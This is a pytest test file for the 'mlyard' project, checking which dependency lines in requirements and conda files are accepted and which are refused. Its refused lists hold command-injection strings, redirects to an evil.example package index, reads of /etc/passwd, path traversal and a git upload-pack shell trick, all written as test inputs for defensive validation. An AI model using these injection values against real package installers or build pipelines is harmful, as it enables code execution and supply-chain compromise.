"""Requirement lines that others wrote: what is installed from them, and what is refused."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from mlyard.core.errors import InvalidParameter
from mlyard.core.requirement_lines import distribution_name
from mlyard.envs.requirements import check_requirements
from mlyard.envs.spec import read_spec

GOOD = [
    "numpy",
    "numpy==2.1.0",
    "numpy >=1.26, <3",
    "numpy (>=1.26)",
    "torch==2.13.0+cpu",
    "uvicorn[standard]>=0.40",
    'pywin32>=1.0; sys_platform == "win32"',
    "scikit-learn==1.5.*",
    "thing==1!2.0",
    "pip==25.0 --hash=sha256:0123456789abcdef",
    "thing @ https://example.org/thing-1.0-py3-none-any.whl",
    "git+https://example.org/thing.git@v1.0#egg=thing",
]
BAD = [
    "x; touch /tmp/pwn",
    "--index-url http://evil.example",
    "--index-url=http://evil.example",
    "-i http://evil.example",
    "--extra-index-url https://evil.example/simple",
    "-r /etc/passwd",
    "-r ../requirements.txt",
    "-c /etc/passwd",
    "-e .",
    "--editable=.",
    "--no-binary :all:",
    "numpy==1.0 --config-settings=x=y",
    "numpy==1.0 --global-option=--x",
    'numpy; python_version > "3" --index-url http://evil.example',
    "numpy\n--index-url http://evil.example",
    "numpy==1.0 -i http://evil.example",
    "$(touch /tmp/pwn)",
    "`touch /tmp/pwn`",
    "numpy | sh",
    "http://evil.example/thing-1.0.whl",
    "thing @ http://evil.example/thing-1.0.whl",
    "thing @ file:///etc/passwd",
    "git+ssh://example.org/thing.git",
    "git+https://example.org/thing.git@--upload-pack=sh",
    "ext::sh -c id",
    "/etc/passwd",
    "../thing.whl",
    "thing.whl/../../x",
    "not-there.whl/x",
]


@pytest.mark.parametrize("line", GOOD)
def test_what_is_taken(line: str, tmp_path: Path) -> None:
    assert check_requirements([line], tmp_path).lines == (line,)


@pytest.mark.parametrize("line", BAD)
@pytest.mark.parametrize("place", ["requirements.txt", "python_env.yaml", "conda.yaml"])
def test_what_is_refused(line: str, place: str, tmp_path: Path) -> None:
    content = {
        "requirements.txt": line,
        "python_env.yaml": yaml.safe_dump({"python": "3.11", "dependencies": [line]}),
        "conda.yaml": yaml.safe_dump({"dependencies": ["python=3.11", {"pip": [line]}]}),
    }
    (tmp_path / place).write_text(content[place])
    with pytest.raises(InvalidParameter):
        read_spec(tmp_path)


@pytest.mark.parametrize("package", ["-p evil", "numpy; touch x", "$(id)", "--file=/etc/passwd", "a\nb"])
def test_conda_packages_are_names_with_versions(package: str, tmp_path: Path) -> None:
    (tmp_path / "conda.yaml").write_text(yaml.safe_dump({"dependencies": [package]}))
    with pytest.raises(InvalidParameter, match=r"conda\.yaml lists"):
        read_spec(tmp_path)


@pytest.mark.parametrize("channel", ["file:///tmp", "http://evil.example", "-c evil", "a b"])
def test_channels_are_names_or_https(channel: str, tmp_path: Path) -> None:
    (tmp_path / "conda.yaml").write_text(yaml.safe_dump({"channels": [channel], "dependencies": []}))
    with pytest.raises(InvalidParameter, match="channel"):
        read_spec(tmp_path)


def test_files_of_the_folder_are_followed_and_others_are_not(tmp_path: Path) -> None:
    (tmp_path / "wheels").mkdir()
    (tmp_path / "wheels" / "thing-1.0-py3-none-any.whl").write_bytes(b"")
    (tmp_path / "constraints.txt").write_text("scipy<2\n")
    (tmp_path / "requirements.txt").write_text(
        "# made by hand\nnumpy==2.1.0  # pinned\n\nwheels/thing-1.0-py3-none-any.whl\n-c constraints.txt\n"
    )
    found = check_requirements(["-r requirements.txt"], tmp_path)
    assert found.lines == ("numpy==2.1.0",)
    assert found.constraints == ("scipy<2",)
    assert [file.name for file in found.files] == ["thing-1.0-py3-none-any.whl"]
    (tmp_path / "away.txt").symlink_to("/etc/passwd")
    with pytest.raises(InvalidParameter, match="refused"):
        check_requirements(["-r away.txt"], tmp_path)
    (tmp_path / "loop.txt").write_text("-r loop.txt\n")
    with pytest.raises(InvalidParameter, match="includes itself"):
        check_requirements(["-r loop.txt"], tmp_path)


def test_a_spec_of_each_age(tmp_path: Path) -> None:
    (tmp_path / "conda.yaml").write_text(
        "channels: [conda-forge]\ndependencies: [python=3.10.4, scikit-learn=1.0, {pip: [numpy==1.26.0]}]\n"
    )
    old = read_spec(tmp_path)
    assert (old.python, old.requirements.lines) == ("3.10", ("numpy==1.26.0",))
    assert old.conda_packages == ("python=3.10.4", "scikit-learn=1.0")
    (tmp_path / "requirements.txt").write_text("numpy==1.26.1\n")
    (tmp_path / "python_env.yaml").write_text("python: 3.11.7\ndependencies: ['-r requirements.txt']\n")
    new = read_spec(tmp_path)
    assert (new.python, new.requirements.lines) == ("3.11", ("numpy==1.26.1",))
    assert old.digest() != new.digest() == read_spec(tmp_path).digest()


def test_what_is_added_wins_over_the_same_name(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text("scikit_learn==1.4\nmlflow==3.17.2\nnumpy==2.1.0\n")
    spec = read_spec(tmp_path).without("mlflow").with_lines(["Scikit-Learn==1.5"])
    assert spec.requirements.lines == ("numpy==2.1.0", "Scikit-Learn==1.5")
    assert [distribution_name(line) for line in ("A.b_C>1", "x[y]==1", "git+https://a/b.git")] == ["a-b-c", "x", ""]
